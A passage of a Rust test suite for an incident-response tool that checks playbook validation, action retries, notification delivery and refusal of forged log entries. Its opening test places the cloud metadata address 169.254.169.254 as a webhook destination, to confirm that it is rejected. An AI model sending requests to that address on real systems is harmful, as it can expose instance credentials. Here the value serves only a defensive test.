    let source = edit(LEAKED_SECRET, "destination = \"cloud-iam\"", "destination = \"http://169.254.169.254/\"");
    let (line, column) = location(&source, "{ connector = \"webhook\"");
    let message = invalid(org.act(ADMIN, O::AddPlaybook { source }), "playbook");
    assert!(message.starts_with(&format!("line {line}, column {column}: preapproved[0].actions[0]: ")), "{message}");
    says(&message, &["a URL or command line never goes in a playbook"]);
    assert_eq!(org.state.playbooks["leaked-secret"].sha256, sha256(LEAKED_SECRET), "the built-in stays");
}

// ---------------------------------------------------------------------------------------------
// (c) Actions.
// ---------------------------------------------------------------------------------------------

fn task_action(title: &str, owner_role: Option<&str>) -> ActionSpec {
    ActionSpec::Task { title: title.into(), owner_role: owner_role.map(role), due_in_minutes: Some(45) }
}

/// INC-1 with D-1, a containment the commander approved by proposing it, carrying a webhook, a
/// notification, a task for the responder and a task with no owner role.
fn acting_world() -> World {
    let mut w = world();
    let actions = vec![
        webhook("edr-isolate"),
        notify(),
        task_action("Image web-1", Some("responder")),
        task_action("Watch web-1", None),
    ];
    act(&mut w, "cmd", with_actions("containment", "Isolate web-1", actions)).expect("approved by its proposer");
    assert_eq!(w.decision(1).state, DecisionState::Approved);
    w
}

#[test]
fn the_worker_runs_only_the_actions_of_approved_decisions() {
    let mut w = acting_world();
    act(&mut w, "tech", with_actions("containment", "Block the IP", vec![webhook("firewall")])).expect("D-2 proposed");
    act(&mut w, "tech", with_actions("containment", "Block the range", vec![webhook("firewall")]))
        .expect("D-3 proposed");
    act(&mut w, "tech", withdraw(3)).expect("withdrawn");
    for command in [start(2, 0), run_task(2, 0), succeed(2, 0, None), start(3, 0)] {
        says(&conflict(system(&mut w, command)), &["is not approved, so its actions do not run"]);
    }
    assert_eq!(not_found(system(&mut w, start(9, 0))), "INC-1 has no decision D-9");
    assert_eq!(not_found(system(&mut w, start(1, 4))), "D-1 has no action 5");
    act(&mut w, "cmd", approve(2)).expect("approved");
    system(&mut w, start(2, 0)).expect("now it runs");
}

#[test]
fn a_succeeded_action_is_not_started_again() {
    let mut w = acting_world();
    system(&mut w, start(1, 0)).expect("started");
    system(&mut w, succeed(1, 0, Some("HTTP 204"))).expect("succeeded");
    assert_eq!(conflict(system(&mut w, start(1, 0))), "action 1 of D-1 is not waiting to run");
    assert_eq!(conflict(system(&mut w, succeed(1, 0, None))), "action 1 of D-1 is not running");
    assert_eq!(
        conflict(act(&mut w, "tech", retry(1, 0))),
        "action 1 of D-1 has not failed; only a failed action is retried"
    );
}

#[test]
fn attempts_are_numbered_across_failures_and_a_restarted_worker_starts_the_next() {
    let mut w = acting_world();
    system(&mut w, start(1, 0)).expect("attempt 1");
    system(&mut w, fail(1, 0, "HTTP 503", true)).expect("failed, to be retried");
    let a = &w.decision(1).actions[0];
    assert_eq!(
        (a.status, a.attempts, a.failures, a.retryable, a.last_error.as_deref()),
        (ActionStatus::Failed, 1, 1, true, Some("HTTP 503"))
    );
    system(&mut w, start(1, 0)).expect("attempt 2");
    // A worker that died mid-attempt leaves it running; after a restart it starts it again.
    system(&mut w, start(1, 0)).expect("attempt 3");
    system(&mut w, succeed(1, 0, Some("HTTP 204"))).expect("succeeded");
    let attempts: Vec<(String, u64)> = w
        .record
        .iter()
        .filter(|e| e.kind.starts_with("action."))
        .map(|e| {
            let body: Value = serde_json::from_str(&e.body).expect("json");
            (e.kind.clone(), body["attempt"].as_u64().expect("an attempt"))
        })
        .collect();
    let kinds = |k: &str, n: u64| (k.to_owned(), n);
    assert_eq!(
        attempts,
        [
            kinds("action.started", 1),
            kinds("action.failed", 1),
            kinds("action.started", 2),
            kinds("action.started", 3),
            kinds("action.succeeded", 3)
        ]
    );
    let a = &w.decision(1).actions[0];
    assert_eq!(
        (a.status, a.attempts, a.last_error.as_deref(), a.detail.as_deref()),
        (ActionStatus::Succeeded, 3, None, Some("HTTP 204"))
    );
    assert_eq!(a.last_attempt_at, Some(w.record[w.record.len() - 2].at));
}

#[test]
fn a_non_retryable_failure_waits_for_a_person_to_ask_for_a_retry() {
    let mut w = acting_world();
    system(&mut w, start(1, 0)).expect("attempt 1");
    system(&mut w, fail(1, 0, "HTTP 403: destination refuses the signature", false)).expect("failed for good");
    assert_eq!(conflict(system(&mut w, start(1, 0))), "action 1 of D-1 is not waiting to run");
    assert_eq!(conflict(system(&mut w, fail(1, 0, "again", true))), "action 1 of D-1 is not running");
    let entries = act(&mut w, "cmd", retry(1, 0)).expect("the commander asks for a retry");
    assert_eq!(
        (entries[0].kind.as_str(), entries[0].body.as_str()),
        ("action.retry_requested", r#"{"action":0,"decision":"D-1"}"#)
    );
    let a = &w.decision(1).actions[0];
    assert_eq!((a.status, a.failures, a.retryable, a.attempts), (ActionStatus::Pending, 0, true, 1));
    assert_eq!(
        conflict(act(&mut w, "cmd", retry(1, 0))),
        "action 1 of D-1 has not failed; only a failed action is retried"
    );
    let entries = system(&mut w, start(1, 0)).expect("attempt 2");
    assert_eq!(entries[0].body, r#"{"action":0,"attempt":2,"decision":"D-1"}"#);
}

#[test]
fn only_holders_of_retry_actions_may_retry_a_failed_action() {
    let mut w = acting_world();
    system(&mut w, start(1, 1)).expect("started");
    system(&mut w, fail(1, 1, "channel gone", false)).expect("failed");
    for name in ["lee", "cora", "exec", "resp"] {
        says(
            &forbidden(act(&mut w, name, retry(1, 1)), "actions.retry_actions"),
            &["retrying actions needs the commander or tech_lead role"],
        );
    }
    forbidden(act(&mut w, "obs", retry(1, 1)), "actions.retry_actions");
    assert_eq!(not_found(act(&mut w, "tech", retry(9, 0))), "INC-1 has no decision D-9");
    assert_eq!(not_found(act(&mut w, "tech", retry(1, 7))), "D-1 has no action 8");
    act(&mut w, "tech", retry(1, 1)).expect("the tech lead may");
    // A retryable failure may be retried by a person too, without waiting for the worker.
    system(&mut w, start(1, 1)).expect("started");
    system(&mut w, fail(1, 1, "timeout", true)).expect("failed");
    act(&mut w, "cmd", retry(1, 1)).expect("the commander may");
}

#[test]
fn a_task_action_creates_the_task_for_the_holder_of_its_owner_role() {
    let mut w = acting_world();
    act(&mut w, "cmd", task("Manual")).expect("T-1");
    let entries = system(&mut w, run_task(1, 2)).expect("the task connector runs");
    assert_eq!(
        entries.iter().map(|e| e.kind.as_str()).collect::<Vec<_>>(),
        ["action.started", "task.created", "action.succeeded"]
    );
    let t2 = w.task(2);
    assert_eq!(
        (t2.title.as_str(), t2.owner.clone(), t2.due, &t2.origin, t2.created_by.clone()),
        (
            "Image web-1",
            Some(user("resp")),
            Some(entries[1].at.plus_seconds(45 * 60)),
            &TaskOrigin::Decision { decision: DecisionId(1), action: 2 },
            worker()
        )
    );
    let a = &w.decision(1).actions[2];
    assert_eq!((a.status, a.attempts, a.detail.as_deref()), (ActionStatus::Succeeded, 1, Some("created T-2")));
    assert_eq!(conflict(system(&mut w, run_task(1, 2))), "action 3 of D-1 is not waiting to run");
    // No owner role, or nobody holding it: the commander.
    system(&mut w, run_task(1, 3)).expect("runs");
    assert_eq!(w.task(3).owner, Some(user("cmd")));
    act(&mut w, "cmd", release("responder", "resp")).expect("released");
    act(&mut w, "cmd", with_actions("containment", "Again", vec![task_action("Image web-2", Some("responder"))]))
        .expect("D-2");
    system(&mut w, run_task(2, 0)).expect("runs");
    assert_eq!(w.task(4).owner, Some(user("cmd")));
    says(&invalid(system(&mut w, run_task(1, 0)), "action"), &["action 1 of D-1 is not a task action"]);
}

#[test]
fn a_notify_action_that_failed_part_way_is_retried_only_to_the_channels_not_yet_told() {
    let mut w = world();
    act(&mut w, "cmd", with_actions("evidence_sharing", "Send the gist to the MSP", vec![notify()])).expect("proposed");
    act(&mut w, "lee", approve(1)).expect("approved by legal");
    assert_eq!(w.decision(1).path, ["incident-channel", "legal"]);
    system(&mut w, start(1, 0)).expect("attempt 1");
    // Only channels of the path, each once, and only from a failed attempt.
    for told in [&["executives"][..], &["legal", "legal"]] {
        let refused = invalid(system(&mut w, fail_after_telling(1, 0, told, "HTTP 503")), "told");
        says(&refused, &["is not a channel of the path of D-1 still to be told"]);
    }
    system(&mut w, fail_after_telling(1, 0, &["incident-channel"], "legal: HTTP 503")).expect("failed part way");
    let failed = w.record.last().expect("the failure");
    assert!(failed.body.contains(r#""told":["incident-channel"]"#), "{}", failed.body);
    assert_eq!(w.decision(1).actions[0].told, ["incident-channel"]);

    system(&mut w, start(1, 0)).expect("attempt 2");
    let refused = invalid(system(&mut w, fail_after_telling(1, 0, &["incident-channel"], "again")), "told");
    says(&refused, &["'incident-channel'", "still to be told"]);
    system(&mut w, fail_after_telling(1, 0, &[], "legal: HTTP 503")).expect("legal still unreachable");
    system(&mut w, start(1, 0)).expect("attempt 3");
    system(&mut w, succeed(1, 0, Some("told legal"))).expect("legal heard");
    let a = &w.decision(1).actions[0];
    assert_eq!(
        (a.status, a.attempts, a.told.as_slice()),
        (ActionStatus::Succeeded, 3, &["incident-channel".to_owned()][..])
    );
    // What the worker reads back after a restart is the fold of the record.
    let refolded = IncidentState::fold(&w.record).expect("the record folds");
    assert_eq!(refolded.decision(DecisionId(1)).expect("D-1").actions[0].told, ["incident-channel"]);
}

#[test]
fn a_long_failure_reason_is_cut_to_the_limit() {
    let mut w = acting_world();
    system(&mut w, start(1, 0)).expect("started");
    system(&mut w, fail(1, 0, &"é".repeat(sitrep_core::decide::SHORT_MAX + 5), true)).expect("failed");
    assert_eq!(
        w.decision(1).actions[0].last_error.as_ref().map(|e| e.chars().count()),
        Some(sitrep_core::decide::SHORT_MAX)
    );
}

#[test]
fn the_fold_refuses_forged_action_entries() {
    let mut w = acting_world();
    act(&mut w, "tech", with_actions("containment", "Not approved", vec![webhook("firewall")])).expect("D-2 proposed");
    let d = DecisionId(1);
    let started = |attempt| IncidentEvent::ActionStarted(ActionStarted { decision: d, action: 0, attempt });
    let succeeded =
        |attempt| IncidentEvent::ActionSucceeded(ActionSucceeded { decision: d, action: 0, attempt, detail: None });
    let failed = |attempt| {
        IncidentEvent::ActionFailed(ActionFailed {
            decision: d,
            action: 0,
            attempt,
            reason: "x".into(),
            retryable: true,
            told: Vec::new(),
        })
    };
    // Action 1 of D-1 is a webhook: it tells no channel.
    let told_by_a_webhook = IncidentEvent::ActionFailed(ActionFailed {
        decision: d,
        action: 0,
        attempt: 1,
        reason: "x".into(),
        retryable: true,
        told: vec!["incident-channel".into()],
    });
    let retried = IncidentEvent::ActionRetryRequested(ActionRef { decision: d, action: 0 });
    let cases = [
        (started(2), "the action cannot start this attempt"),
        (started(0), "the action cannot start this attempt"),
        (succeeded(1), "the action is not running this attempt"),
        (succeeded(0), "the action is not running this attempt"),
        (failed(1), "the action is not running this attempt"),
        (told_by_a_webhook, "only a notify action tells channels, and only those of its path"),
        (retried, "only a failed action is retried"),
        (
            IncidentEvent::ActionStarted(ActionStarted { decision: DecisionId(2), action: 0, attempt: 1 }),
            "unknown action",
        ),
        (IncidentEvent::ActionStarted(ActionStarted { decision: d, action: 9, attempt: 1 }), "unknown action"),
        (IncidentEvent::ActionRetryRequested(ActionRef { decision: DecisionId(2), action: 0 }), "unknown action"),
    ];
    for (event, reason) in cases {
        // A retry is asked for by a person; the rest are the worker's reports.
        let actor = if matches!(event, IncidentEvent::ActionRetryRequested(_)) { by("tech") } else { worker() };
        assert_eq!(fold_refuses(&w, w.head(), &actor, event).reason, reason);
    }
    assert_eq!(
        fold_refuses(&w, w.head(), &by("tech"), succeeded(1)).reason,
        "only the system writes this kind of entry",
        "a person cannot report an action's outcome"
    );
    system(&mut w, start(1, 0)).expect("attempt 1");
    assert_eq!(fold_refuses(&w, w.head(), &worker(), succeeded(2)).reason, "the action is not running this attempt");
    assert_eq!(fold_refuses(&w, w.head(), &worker(), started(1)).reason, "the action cannot start this attempt");
    system(&mut w, fail(1, 0, "HTTP 500", false)).expect("failed for good");
    assert_eq!(fold_refuses(&w, w.head(), &worker(), started(2)).reason, "the action cannot start this attempt");
    system(&mut w, start(1, 1)).expect("another action runs meanwhile");
    system(&mut w, succeed(1, 1, None)).expect("succeeded");
    let done = IncidentEvent::ActionRetryRequested(ActionRef { decision: d, action: 1 });
    assert_eq!(fold_refuses(&w, w.head(), &by("tech"), done).reason, "only a failed action is retried");
    act(&mut w, "tech", retry(1, 0)).expect("the record goes on");
}

// ---------------------------------------------------------------------------------------------
// (d) Notices: the outbox of what each decision owes its communications path.
// ---------------------------------------------------------------------------------------------

type Owed = (Moment, String, NoticeStatus, u32);

fn owed(w: &World, n: u64) -> Vec<Owed> {
    w.decision(n).notices.iter().map(|x| (x.moment, x.channel.clone(), x.status, x.attempts)).collect()
}

fn pending(moment: Moment, channels: &[&str]) -> Vec<Owed> {
    channels.iter().map(|c| (moment, (*c).to_owned(), NoticeStatus::Pending, 0)).collect()
}

const STATEMENT_PATH: &[&str] = &["incident-channel", "legal", "communications"];

#[test]
fn proposing_a_class_with_a_path_owes_a_proposed_notice_to_each_channel() {
    let mut w = world();
    let entries = act(&mut w, "cora", propose("external_statement", "Holding statement")).expect("proposed");
    assert!(entries[0].body.contains(r#""path":["incident-channel","legal","communications"]"#), "{}", entries[0].body);
    assert_eq!(owed(&w, 1), pending(Moment::Proposed, STATEMENT_PATH));
    // Proposing and approving at once owes both moments.
    act(&mut w, "cmd", propose("containment", "Isolate web-1")).expect("approved by its proposer");
    assert_eq!(
        owed(&w, 2),
        [pending(Moment::Proposed, &["incident-channel"]), pending(Moment::Approved, &["incident-channel"])].concat()
    );
}

#[test]
fn approving_and_rejecting_owe_approved_and_rejected_notices() {
    let mut w = world();
    for text in ["Draft one", "Draft two", "Draft three"] {
        act(&mut w, "cora", draft(Audience::Press, text)).expect("drafted");
    }
    act(&mut w, "cora", propose_statement("external_statement", 1)).expect("D-1");
    act(&mut w, "cora", propose_statement("external_statement", 2)).expect("D-2");
    act(&mut w, "cora", propose_statement("external_statement", 3)).expect("D-3");
    act(&mut w, "lee", approve(1)).expect("approved");
    assert_eq!(
        owed(&w, 1),
        [pending(Moment::Proposed, STATEMENT_PATH), pending(Moment::Approved, STATEMENT_PATH)].concat()
    );
    act(&mut w, "lee", reject(2, "names the vendor")).expect("rejected");
    assert_eq!(
        owed(&w, 2),
        [pending(Moment::Proposed, STATEMENT_PATH), pending(Moment::Rejected, STATEMENT_PATH)].concat()
    );
    act(&mut w, "cora", withdraw(3)).expect("withdrawn");
    assert_eq!(owed(&w, 3), pending(Moment::Proposed, STATEMENT_PATH), "a withdrawal owes no notice");
    // An approval that does not complete the rule owes nothing yet.
    act(&mut w, "resp", propose("evidence_sharing", "Share logs")).expect("D-4");
    act(&mut w, "lee", approve(4)).expect("one of two");
    assert_eq!(owed(&w, 4), pending(Moment::Proposed, &["incident-channel", "legal"]));
}

#[test]
fn a_delivery_settles_a_notice_and_a_final_failure_gives_it_up() {
    let mut w = world();
    act(&mut w, "cora", propose("external_statement", "Holding statement")).expect("proposed");
    let entries = system(&mut w, delivered(1, Moment::Proposed, "legal")).expect("delivered");
    assert_eq!(
        (entries[0].kind.as_str(), entries[0].body.as_str(), &entries[0].actor),
        (
            "notification.delivered",
            r#"{"channel":"legal","decision":"D-1","detail":"HTTP 200","moment":"proposed"}"#,
            &worker()
        )
    );
    let legal = &w.decision(1).notices[1];
    assert_eq!(
        (legal.status, legal.attempts, legal.last_attempt_at, legal.detail.as_deref()),
        (NoticeStatus::Delivered, 1, Some(entries[0].at), Some("HTTP 200"))
    );
    let entries = system(&mut w, undelivered(1, Moment::Proposed, "communications", "550 mailbox unavailable", false))
        .expect("given up");
    assert_eq!(entries[0].kind, "notification.failed");
    let comms = &w.decision(1).notices[2];
    assert_eq!(
        (comms.status, comms.attempts, comms.detail.as_deref()),
        (NoticeStatus::Failed, 1, Some("550 mailbox unavailable"))
    );
    assert_eq!(w.decision(1).notices[0].status, NoticeStatus::Pending, "the other channel is still owed");
}

#[test]
fn a_retryable_failure_leaves_the_notice_pending_and_counts_the_attempt() {
    let mut w = world();
    act(&mut w, "cora", propose("external_statement", "Holding statement")).expect("proposed");
    system(&mut w, undelivered(1, Moment::Proposed, "legal", "connection refused", true)).expect("to be retried");
    system(&mut w, undelivered(1, Moment::Proposed, "legal", "timed out", true)).expect("to be retried");
    let legal = &w.decision(1).notices[1];
    assert_eq!((legal.status, legal.attempts, legal.detail.as_deref()), (NoticeStatus::Pending, 2, Some("timed out")));
    system(&mut w, delivered(1, Moment::Proposed, "legal")).expect("delivered at last");
    assert_eq!((w.decision(1).notices[1].status, w.decision(1).notices[1].attempts), (NoticeStatus::Delivered, 3));
}

#[test]
fn notifying_what_is_not_owed_is_a_conflict() {
    let mut w = world();
    act(&mut w, "cora", propose("external_statement", "Holding statement")).expect("proposed");
    system(&mut w, delivered(1, Moment::Proposed, "legal")).expect("delivered");
    assert_eq!(
        conflict(system(&mut w, delivered(1, Moment::Proposed, "legal"))),
        "no proposed notification of D-1 is owed to legal"
    );
    assert_eq!(
        conflict(system(&mut w, delivered(1, Moment::Proposed, "press"))),
        "no proposed notification of D-1 is owed to press"
    );
    conflict(system(&mut w, delivered(1, Moment::Approved, "legal")));
    conflict(system(&mut w, undelivered(1, Moment::Rejected, "legal", "x", true)));
    system(&mut w, undelivered(1, Moment::Proposed, "communications", "gone", false)).expect("given up");
    conflict(system(&mut w, delivered(1, Moment::Proposed, "communications")));
    assert_eq!(not_found(system(&mut w, delivered(9, Moment::Proposed, "legal"))), "INC-1 has no decision D-9");
}

#[test]
fn a_decision_pre_approved_by_a_playbook_owes_both_proposed_and_approved_notices() {
    let mut w = world();
    act(&mut w, "cmd", run_playbook("leaked-secret", &[("key_id", "AKIA1"), ("provider", "AWS")])).expect("started");
    assert_eq!(
        owed(&w, 1),
        [pending(Moment::Proposed, &["incident-channel"]), pending(Moment::Approved, &["incident-channel"])].concat()
    );
    system(&mut w, delivered(1, Moment::Approved, "incident-channel")).expect("delivered");
    // The step decision, proposed, owes only its proposal.
    assert_eq!(owed(&w, 2), pending(Moment::Proposed, STATEMENT_PATH));
}

#[test]
fn a_closed_incident_still_settles_the_notices_of_its_close_decision() {
    let mut w = world();
    review(&mut w);
    act(&mut w, "cmd", propose("close", "Close INC-1")).expect("proposed");
    act(&mut w, "exec", approve(1)).expect("closed");
    assert_eq!(
        owed(&w, 1),
        [
            pending(Moment::Proposed, &["incident-channel", "executives"]),
            pending(Moment::Approved, &["incident-channel", "executives"])
        ]
        .concat()
    );
    system(&mut w, delivered(1, Moment::Approved, "executives")).expect("the notifier finishes after the close");
}

#[test]
fn the_fold_refuses_forged_notifications_and_uncited_playbook_approvals() {
    let mut w = world();
    act(&mut w, "cora", propose("external_statement", "Holding statement")).expect("proposed");
    let sent = |moment, channel: &str| {
        IncidentEvent::NotificationDelivered(NotificationDelivered {
            decision: DecisionId(1),
            moment,
            channel: channel.into(),
            detail: None,
        })
    };
    assert_eq!(
        fold_refuses(&w, w.head(), &worker(), sent(Moment::Approved, "legal")).reason,
        "no such notification is owed"
    );
    assert_eq!(
        fold_refuses(&w, w.head(), &worker(), sent(Moment::Proposed, "press")).reason,
        "no such notification is owed"
    );
    let lost = IncidentEvent::NotificationFailed(NotificationFailed {
        decision: DecisionId(7),
        moment: Moment::Proposed,
        channel: "legal".into(),
        reason: "x".into(),
        retryable: false,
    });
    assert_eq!(fold_refuses(&w, w.head(), &worker(), lost).reason, "no such notification is owed");
    system(&mut w, delivered(1, Moment::Proposed, "legal")).expect("delivered");
    assert_eq!(
        fold_refuses(&w, w.head(), &worker(), sent(Moment::Proposed, "legal")).reason,
        "the notification was already settled"
    );

    // A decision "pre-approved" by a playbook that was never started on this incident.
    let playbook = parsed(LEAKED_SECRET);
    let class = w
        .org
        .state
        .policy
        .class(&sitrep_core::DecisionClass::parse("credential_revocation").expect("a class"))
        .expect("known")
        .clone();
    let forged = |citation: Citation| {
        IncidentEvent::DecisionProposed(DecisionProposed {
            authentication: None,
            decision: DecisionId(2),
            class: class.class.clone(),
            title: "Deactivate every key".into(),
            rationale: None,
            actions: vec![webhook("cloud-iam")],
            rule: class.rule.clone(),
            role: None,
            also: vec![],
            state: DecisionState::Approved,
            playbook: Some(citation),
            path: class.path.clone(),
            statement: None,
            clocks: Vec::new(),
        })
    };
    let error = fold_refuses(&w, w.head(), &by("resp"), forged(playbook.citation()));
    assert_eq!(error.reason, "it cites a playbook that was not started on this incident");
    act(&mut w, "cmd", run_playbook("leaked-secret", &[("key_id", "AKIA1"), ("provider", "AWS")])).expect("started");
    let renumbered = |citation| match forged(citation) {
        IncidentEvent::DecisionProposed(d) => IncidentEvent::DecisionProposed(DecisionProposed {
            decision: DecisionId(w.incident.decisions.len() as u64 + 1),
            ..d
        }),
        _ => unreachable!(),
    };
    let other_file = Citation { sha256: sha256(GENERIC), ..playbook.citation() };
    assert_eq!(
        fold_refuses(&w, w.head(), &by("resp"), renumbered(other_file)).reason,
        "it cites a playbook that was not started on this incident"
    );
    let other_playbook = Citation { playbook: "generic".into(), ..playbook.citation() };
    assert_eq!(
        fold_refuses(&w, w.head(), &by("resp"), renumbered(other_playbook)).reason,
        "it cites a playbook that was not started on this incident"
    );
}

#[test]
fn declaring_with_a_playbook_needs_the_authority_to_start_it() {
    let command =
        Declare { playbook: Some("generic".into()), ..declaration("Someone else commands", &[("tech", "commander")]) };
    let refused = declare(org(), "cmd", &command).map(|w| w.incident.seq);
    assert!(
        forbidden(refused, "actions.run_playbooks").contains("starting a playbook needs the commander role"),
        "a declarer who names someone else commander does not start a playbook on their behalf"
    );
    let own = Declare { playbook: Some("generic".into()), ..declaration("I command", &[]) };
    let w = declare(org(), "cmd", &own).expect("the declaring commander starts it");
    assert_eq!(w.incident.playbooks.len(), 1);
}

#[test]
fn a_task_action_runs_as_a_task_not_as_an_outside_call() {
    let mut w = world();
    let action = ActionSpec::Task { title: "Rotate keys".into(), owner_role: None, due_in_minutes: None };
    act(&mut w, "cmd", with_actions("containment", "Rotate", vec![action])).expect("approved at once");
    let d = w.incident.decisions.len() as u64;
    assert_eq!(
        invalid(system(&mut w, start(d, 0)), "action"),
        format!("action 1 of D-{d} creates a task; run it as a task action")
    );
    system(&mut w, run_task(d, 0)).expect("the task action runs");
    assert_eq!(w.incident.tasks.last().map(|t| t.title.as_str()), Some("Rotate keys"));
}

#[test]
fn the_sitrep_names_who_pre_approved_a_playbook_decision_its_playbook_version_and_hash() {
    let mut w = world();
    act(&mut w, "cmd", run_playbook("leaked-secret", &[("key_id", "AKIA1234"), ("provider", "AWS")])).expect("started");
    let sitrep = sitrep_core::sitrep::Sitrep::of(&w.incident, &w.org.state, w.org.now());
    let revocation = &sitrep.approved_decisions[0];
    assert_eq!(
        revocation.preapproved,
        Some(Citation {
            playbook: "leaked-secret".into(),
            version: "1.1.0".into(),
            sha256: sha256(LEAKED_SECRET),
            approved_by: "CISO, for the Security Leadership Team".into(),
        })
    );
    let markdown = sitrep.to_markdown();
    says(
        &markdown,
        &[&format!(
            "- D-1 credential_revocation \"Deactivate AKIA1234 at AWS\", pre-approved by CISO, for the Security Leadership \
         Team in playbook leaked-secret v1.1.0 (SHA-256 {})",
            &sha256(LEAKED_SECRET)[..12]
        )],
    );
    assert!(!markdown.contains("approved by nobody"), "{markdown}");
    // The holding statement waiting on legal and comms shows the text they would approve.
    says(&markdown, &["approves ST-1 v1 \"Holding statement: exposed AWS credential\" to press", "    > We are aware"]);
}

#[test]
fn a_playbook_cannot_pre_approve_a_statement_and_a_step_s_draft_must_match_its_class() {
    let policy = Policy::default_policy();
    let preapproved = LEAKED_SECRET.replacen("class = \"credential_revocation\"", "class = \"external_statement\"", 1);
    let error = Playbook::parse(&preapproved, &policy).expect_err("refused");
    says(
        &error.message,
        &["a playbook cannot pre-approve external_statement; its approvers must see the statement's text"],
    );
    let wrong_audience = LEAKED_SECRET.replace("audience = \"press\"", "audience = \"customers\"");
    let error = Playbook::parse(&wrong_audience, &policy).expect_err("refused");
    says(
        &error.message,
        &["a statement to customers is approved through customer_notification, not external_statement"],
    );
}
